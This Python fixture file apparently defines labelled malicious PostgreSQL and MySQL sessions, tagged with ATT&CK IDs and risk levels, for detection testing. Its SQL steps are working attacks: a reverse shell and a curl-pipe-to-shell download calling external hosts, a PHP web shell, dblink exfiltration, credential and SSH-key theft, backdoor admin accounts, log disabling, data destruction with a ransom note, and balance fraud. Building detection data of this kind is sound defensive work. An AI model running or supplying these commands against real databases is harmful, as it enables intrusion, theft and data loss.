"""Malicious database sessions (postgres and mysql)."""

from dsl import db, ksql, sql, wait
from snips import chars, ed25519_pub

PSQL_DT = """SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;"""

PSQL_DU = """SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil, r.rolreplication,
  r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;"""

MYSQL_HELLO = "select @@version_comment limit 1"

SCENARIOS = [
    db("pg-customer-bulk-export", "maria.lopez:shop_ro@pg-shop-01/shop",
       T="T1213.006 T1005 T1074.001",
       risk="HIGH-CRITICAL",
       desc="Lists tables, then pulls every customer record and the users' password hashes, and writes them to a CSV on the server",
       steps=[
           sql("SELECT current_user, current_database(), inet_server_addr()"),
           sql(PSQL_DT),
           sql("SELECT count(*) FROM customers"),
           ksql("SELECT id, email, full_name, phone, street, city, postcode, date_of_birth FROM customers"),
           ksql("SELECT id, email, password_hash, last_login_ip FROM users"),
           ksql("COPY (SELECT c.email, c.full_name, c.phone, u.password_hash FROM customers c JOIN users u ON u.customer_id = c.id) TO '/tmp/.cache_c.csv' WITH CSV HEADER",
                ok=False, error="ERROR: permission denied to COPY to a file\nDETAIL: Only roles with privileges of the \"pg_write_server_files\" role may COPY to a file.\nHINT: Anyone can COPY to stdout or from stdin. psql's \\copy command also works for anyone."),
           ksql("COPY (SELECT c.email, c.full_name, c.phone, u.password_hash FROM customers c JOIN users u ON u.customer_id = c.id) TO STDOUT WITH CSV HEADER"),
       ]),

    db("pg-copy-to-program-shell", "d.kowalski:postgres@pg-billing-01/billing",
       T="T1033 T1059.004 T1095",
       risk="CRITICAL",
       desc="As a superuser, runs OS commands through COPY ... FROM PROGRAM and then launches a reverse shell with COPY ... TO PROGRAM",
       steps=[
           sql("SELECT version()"),
           sql("SELECT rolsuper FROM pg_roles WHERE rolname = current_user"),
           sql("CREATE TEMP TABLE o(t text)"),
           ksql("COPY o FROM PROGRAM 'id; hostname; ip -4 -br a'"),
           sql("SELECT * FROM o"),
           ksql("""COPY (SELECT '') TO PROGRAM 'bash -c "bash -i >& /dev/tcp/203.0.113.45/5432 0>&1" &'"""),
       ]),

    db("pg-read-server-files", "wendy.zhao:postgres@pg-shop-01/shop",
       T="T1005 T1083 T1087.001 T1552.004",
       risk="HIGH-CRITICAL",
       desc="Uses pg_read_file and pg_ls_dir to read /etc/passwd, list the postgres home and steal its SSH private key",
       steps=[
           ksql("SELECT pg_read_file('/etc/passwd')"),
           ksql("SELECT pg_ls_dir('/var/lib/postgresql/.ssh')"),
           ksql("SELECT pg_read_file('/var/lib/postgresql/.ssh/id_ed25519')"),
           sql("SELECT pg_read_file('/etc/shadow')", ok=False, error="ERROR: could not open file \"/etc/shadow\" for reading: Permission denied"),
           sql("SELECT pg_read_file('postgresql.auto.conf')"),
       ]),

    db("pg-rogue-superuser", "kevin.obrien:postgres@pg-billing-01/billing",
       T="T1087 T1136 T1098",
       risk="HIGH-CRITICAL",
       desc="Creates a new superuser role with a replication-looking name and resets the password of the existing replication role",
       steps=[
           sql(PSQL_DU),
           ksql("CREATE ROLE repl_monitor WITH LOGIN SUPERUSER PASSWORD '" + chars("replmon", 16) + "'"),
           ksql("ALTER ROLE replicator WITH PASSWORD '" + chars("replicator2", 16) + "'"),
           ksql("GRANT ALL PRIVILEGES ON DATABASE billing TO repl_monitor"),
           sql("SELECT rolname, rolsuper, rolcanlogin FROM pg_roles WHERE rolname LIKE 'repl%'"),
       ]),

    db("pg-audit-logging-disabled", "julia.santos:postgres@pg-payments-01/payments",
       T="T1685 T1213.006",
       risk="CRITICAL",
       desc="Turns statement and connection logging off with ALTER SYSTEM, reloads the config and then reads the card table",
       steps=[
           sql("SHOW log_statement"),
           ksql("ALTER SYSTEM SET log_statement = 'none'"),
           ksql("ALTER SYSTEM SET log_connections = off"),
           ksql("ALTER SYSTEM SET log_min_duration_statement = -1"),
           ksql("SELECT pg_reload_conf()"),
           sql("SELECT count(*) FROM payment_methods"),
           ksql("SELECT customer_id, card_holder, card_token, last4, exp_month, exp_year, billing_zip FROM payment_methods"),
       ]),

    db("pg-authid-hash-dump", "omar.haddad:postgres@pg-shop-01/postgres",
       T="T1087 T1003",
       risk="HIGH",
       desc="Reads password hashes of every database role from pg_authid and pg_shadow",
       steps=[
           sql("SELECT rolname FROM pg_roles"),
           ksql("SELECT rolname, rolpassword FROM pg_authid WHERE rolpassword IS NOT NULL"),
           ksql("SELECT usename, passwd FROM pg_shadow"),
       ]),

    db("pg-drop-and-truncate-audit", "tom.becker:app_owner@pg-analytics-01/analytics",
       T="T1485 T1070",
       risk="CRITICAL",
       desc="Truncates the audit log table and drops the analytics tables and another database",
       steps=[
           sql(PSQL_DT),
           ksql("TRUNCATE TABLE audit_log"),
           ksql("DROP TABLE events, sessions, funnels CASCADE"),
           ksql("DROP DATABASE reporting", db="postgres"),
       ]),

    db("pg-trigger-password-capture", "hiro.tanaka:app_owner@pg-shop-01/shop",
       T="T1505.001 T1036.005 T1056",
       risk="HIGH-CRITICAL",
       desc="Creates a SECURITY DEFINER trigger function that copies every new password set on the users table into a table named like a statistics cache",
       steps=[
           ksql("CREATE TABLE IF NOT EXISTS public.pg_stat_cache (k text, v text, t timestamptz DEFAULT now())"),
           ksql("""CREATE OR REPLACE FUNCTION public.pg_stat_cache_refresh() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  IF NEW.password_plain IS NOT NULL THEN
    INSERT INTO public.pg_stat_cache(k, v) VALUES (NEW.email, NEW.password_plain);
  END IF;
  RETURN NEW;
END $$"""),
           ksql("CREATE TRIGGER zz_stat_cache BEFORE INSERT OR UPDATE OF password_plain ON users FOR EACH ROW EXECUTE FUNCTION public.pg_stat_cache_refresh()"),
           sql("SELECT tgname FROM pg_trigger WHERE tgrelid = 'users'::regclass AND NOT tgisinternal"),
       ]),

    db("pg-write-authorized-keys", "frank.nguyen:postgres@pg-billing-01/billing",
       T="T1098.004 T1003.008",
       risk="HIGH-CRITICAL",
       desc="Writes an attacker key into the postgres account's authorized_keys with COPY TO, after a failed attempt to import /etc/shadow",
       steps=[
           sql("SELECT lo_import('/etc/shadow')", ok=False, error="ERROR: could not open server file \"/etc/shadow\": Permission denied"),
           ksql("COPY (SELECT '" + ed25519_pub("pgattacker", "pg@backup") + "') TO '/var/lib/postgresql/.ssh/authorized_keys'"),
           sql("SELECT pg_read_file('/var/lib/postgresql/.ssh/authorized_keys')"),
       ]),

    db("pg-ransom-note-table", "bob.martin:app_owner@pg-crm-01/crm",
       T="T1485 T1491.001",
       risk="CRITICAL",
       desc="Drops the CRM tables and leaves a ransom note table demanding bitcoin for the data",
       steps=[
           sql(PSQL_DT),
           ksql("DROP TABLE contacts, companies, deals, notes, activities CASCADE"),
           ksql("CREATE TABLE \"README_TO_RECOVER_YOUR_DATA\" (msg text)"),
           ksql("INSERT INTO \"README_TO_RECOVER_YOUR_DATA\" VALUES ('All your data is backed up on our servers. To recover it send 0.05 BTC to bc1q" + chars("pgbtc", 38).lower() + " and email crm-recover@proton.example with your DB code 9F2A. Data will be leaked in 48h otherwise.')"),
       ]),

    db("pg-dblink-exfil", "ivan.petrov:postgres@pg-payments-01/payments",
       T="T1213.006 T1048",
       risk="CRITICAL",
       desc="Installs dblink and copies the payouts table row by row into a database on an external server",
       steps=[
           ksql("CREATE EXTENSION IF NOT EXISTS dblink"),
           ksql("SELECT dblink_connect('x', 'host=203.0.113.60 port=5432 dbname=d user=u password=" + chars("dblinkpw", 12) + " sslmode=disable')"),
           ksql("SELECT dblink_exec('x', 'CREATE TABLE IF NOT EXISTS p (id bigint, iban text, holder text, amount numeric)')"),
           ksql("SELECT count(dblink_exec('x', format('INSERT INTO p VALUES (%s, %L, %L, %s)', id, iban, account_holder, amount))) FROM payouts"),
           sql("SELECT dblink_disconnect('x')"),
       ]),

    db("mysql-outfile-webshell", "carol.diaz:shop@mysql-shop-01/shop",
       T="T1505.003",
       risk="CRITICAL",
       desc="Checks secure_file_priv and writes a PHP web shell into the web root with SELECT ... INTO OUTFILE",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           sql("SELECT @@secure_file_priv, @@datadir, current_user()"),
           ksql("SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/images/.s.php'"),
           sql("SELECT LOAD_FILE('/var/www/html/images/.s.php')"),
       ]),

    db("mysql-user-hashes-backdoor-admin", "sam.okafor:root@mysql-shop-01/mysql",
       T="T1003 T1136 T1098 T1036.010",
       risk="CRITICAL",
       desc="Dumps MySQL account hashes, creates a remote admin account named like a system account and grants it everything",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           ksql("SELECT user, host, plugin, authentication_string FROM mysql.user"),
           ksql("CREATE USER 'mysql.infoschema2'@'%' IDENTIFIED BY '" + chars("mysqlbd", 16) + "'"),
           ksql("GRANT ALL PRIVILEGES ON *.* TO 'mysql.infoschema2'@'%' WITH GRANT OPTION"),
           sql("FLUSH PRIVILEGES"),
       ]),

    db("mysql-binlog-off-balance-fraud", "victor.ruiz:wallet_svc@mysql-wallet-01/wallet",
       T="T1685 T1565.001 T1657",
       risk="CRITICAL",
       desc="Disables binary and general logging for its session, credits an account and queues a payout to it",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           ksql("SET sql_log_bin = 0"),
           ksql("SET GLOBAL general_log = 'OFF'"),
           sql("SELECT user_id, balance, currency FROM wallets WHERE user_id = 88121"),
           ksql("UPDATE wallets SET balance = balance + 25000.00 WHERE user_id = 88121"),
           ksql("INSERT INTO payouts (user_id, amount, currency, iban, status, created_at) VALUES (88121, 24990.00, 'EUR', 'LT601010012345678901', 'approved', NOW())"),
           sql("SET sql_log_bin = 1"),
       ]),

    db("mysql-load-file-secrets", "grace.kim:root@mysql-shop-01/shop",
       T="T1005 T1552.001 T1087.001",
       risk="HIGH",
       desc="Reads /etc/passwd, root's .my.cnf and the application's .env from the server filesystem with LOAD_FILE",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           ksql("SELECT LOAD_FILE('/etc/passwd')"),
           ksql("SELECT LOAD_FILE('/root/.my.cnf')"),
           ksql("SELECT LOAD_FILE('/var/www/shop/.env')"),
       ]),

    db("mysql-drop-databases", "nina.kowalski:root@mysql-shop-01/shop",
       T="T1485",
       risk="CRITICAL",
       desc="Drops the production shop database and its archive",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           sql("SHOW DATABASES"),
           ksql("DROP DATABASE shop"),
           ksql("DROP DATABASE shop_archive"),
       ]),

    db("mysql-udf-sys-exec", "dev.patel:root@mysql-legacy-01/mysql",
       T="T1505.001 T1059.004 T1105",
       risk="CRITICAL",
       desc="Writes a UDF library into the plugin directory, registers sys_exec and uses it to download and run a script",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           sql("SELECT @@plugin_dir, @@version_compile_os"),
           ksql("SELECT 0x7f454c4602010100000000000000000003003e0001000000" + "00" * 24 + " INTO DUMPFILE '/usr/lib/mysql/plugin/udf_sys.so'"),
           ksql("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf_sys.so'"),
           ksql("SELECT sys_exec('curl -fsSL http://203.0.113.14/m | sh')"),
       ]),

    db("mysql-customer-outfile", "li.wei:shop@mysql-shop-01/shop",
       T="T1213.006 T1074.001",
       risk="HIGH-CRITICAL",
       desc="Exports all customers and their orders with addresses to files in the server's export directory",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           sql("SHOW TABLES"),
           ksql("SELECT * FROM customers INTO OUTFILE '/var/lib/mysql-files/c.csv' FIELDS TERMINATED BY ',' ENCLOSED BY '\"'"),
           ksql("SELECT o.id, o.customer_id, o.total, a.line1, a.city, a.zip FROM orders o JOIN addresses a ON a.id = o.shipping_address_id INTO OUTFILE '/var/lib/mysql-files/o.csv'"),
       ]),

    db("pg-sensitive-column-hunt", "alice.chen:reporting@pg-analytics-01/analytics",
       T="T1087 T1213.006",
       risk="MEDIUM-HIGH",
       desc="Searches the catalog for columns holding passwords, cards, SSNs and tokens across all schemas, then samples them",
       steps=[
           sql(PSQL_DU),
           ksql("SELECT table_schema, table_name, column_name FROM information_schema.columns WHERE column_name ILIKE ANY (ARRAY['%pass%', '%card%', '%ssn%', '%token%', '%secret%', '%iban%'])"),
           sql("SELECT has_table_privilege('crm_import.contacts_raw', 'SELECT')"),
           ksql("SELECT email, ssn, card_number FROM crm_import.contacts_raw"),
       ]),
    db("pg-connection-kill-dos", "uma.iyer:postgres@pg-shop-01/postgres",
       T="T1489 T1499",
       risk="HIGH-CRITICAL",
       desc="Blocks new connections to the shop database and repeatedly terminates every other backend, taking the shop offline",
       steps=[
           sql("SELECT datname, count(*) FROM pg_stat_activity GROUP BY 1"),
           ksql("ALTER DATABASE shop CONNECTION LIMIT 0"),
           ksql("ALTER ROLE shop_app NOLOGIN"),
           ksql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND datname = 'shop'"),
           ksql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND datname = 'shop'"),
       ]),

    db("mysql-event-backdoor-account", "bob.martin:root@mysql-shop-01/mysql",
       T="T1136 T1098 T1053",
       risk="HIGH-CRITICAL",
       desc="Enables the event scheduler and creates an hourly event that re-creates a hidden admin account if it is removed",
       protocol="mysql",
       steps=[
           sql(MYSQL_HELLO),
           ksql("SET GLOBAL event_scheduler = ON"),
           ksql("""CREATE EVENT IF NOT EXISTS mysql.ev_stats_flush ON SCHEDULE EVERY 1 HOUR DO
BEGIN
  CREATE USER IF NOT EXISTS 'mysql.stats'@'%' IDENTIFIED BY '""" + chars("evtpw", 16) + """';
  GRANT ALL PRIVILEGES ON *.* TO 'mysql.stats'@'%' WITH GRANT OPTION;
END"""),
           sql("SELECT event_schema, event_name, interval_value, interval_field, status FROM information_schema.events"),
       ]),

    db("pg-app-admin-takeover", "ivan.petrov:shop_app@pg-shop-01/shop",
       T="T1098 T1087",
       risk="HIGH-CRITICAL",
       desc="Resets the password hash of the shop's admin user and promotes an attacker-registered account to admin directly in the database",
       steps=[
           sql("SELECT id, email, role, last_login FROM users WHERE role = 'admin'"),
           ksql("UPDATE users SET password_hash = '" + "$2b$12$" + chars("adminbc", 53, "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") + "', mfa_secret = NULL WHERE email = 'admin@acme-corp.example'"),
           ksql("UPDATE users SET role = 'admin', is_staff = true WHERE email = 'jay.price77@mail.example'"),
           sql("SELECT id, email, role FROM users WHERE role = 'admin'"),
       ]),
]
